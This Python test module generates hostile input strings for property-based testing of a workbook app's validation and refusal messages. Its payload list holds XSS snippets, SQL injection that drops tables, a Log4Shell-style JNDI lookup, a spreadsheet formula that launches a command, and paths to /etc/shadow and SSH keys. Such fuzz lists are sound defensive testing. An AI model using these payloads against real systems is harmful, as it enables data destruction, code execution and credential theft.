"""Hostile text for property-based tests: what a participant might type, paste or smuggle.

``hostile_text()`` mixes known payloads (markup, script, template and SQL fragments, path
names with ``..``, spreadsheet formulas), unusual Unicode (right-to-left overrides,
combining marks, emoji sequences, lone surrogates), control characters, arbitrary text and
huge text around the 10,000-character cap. ``assert_clear_refusal`` pins what a refusal
must look like: a ``WorkbookError`` whose message is short and carries no raw control
characters, whatever was typed.
"""

from __future__ import annotations

from hypothesis import strategies as st

from workbook.errors import WorkbookError
from workbook.model import MAX_TEXT

PAYLOADS = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
    "${jndi:ldap://x/a} #{7*7} <%= 7*7 %>",
    "=HYPERLINK(\"http://x.example\",\"y\")",
    "=1+2",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "'); DROP TABLE organisation; --",
    "Robert'); DELETE FROM comment WHERE ('1'='1",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "%_\\ ESCAPE '\\'",
    "1; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "\u202eevil.exe\u202c",
    "שותפות מגזרית",
    "شراكة قطاعية",
    "e\u0301\u0301\u0301 Z\u0337\u0322\u0353a\u0338l\u0336g\u0335o",
    "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 🇳🇴",
    "\ufeffBOM first",
    "zero\u200bwidth\u200djoin",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "line\nbreak",
    "tab\there",
    "\r\n",
    "\ud800 lone surrogate",
    "NULL",
    "None",
    "",
    "   ",
    "\\N",
)


def _cut(seed: str, size: int) -> str:
    seed = seed or "x"
    return (seed * (size // len(seed) + 1))[:size]


def hostile_text() -> st.SearchStrategy[str]:
    """Any string a person might get into a field, with the nasty ones over-represented."""
    payload = st.sampled_from(PAYLOADS)
    anything = st.text(st.characters(exclude_categories=()), max_size=200)
    huge = st.builds(_cut, payload | st.just("ab "),
                     st.integers(MAX_TEXT - 10, MAX_TEXT + 10) | st.integers(0, 3 * MAX_TEXT))
    mixed = st.lists(payload | anything, min_size=2, max_size=4).map("".join)
    return payload | anything | huge | mixed


def assert_clear_refusal(error: BaseException) -> None:
    """A refusal is a WorkbookError with a short, printable, one-line message."""
    assert isinstance(error, WorkbookError), repr(error)
    message = str(error)
    assert message and len(message) < 600, message[:200]
    assert message.isprintable(), repr(message[:200])
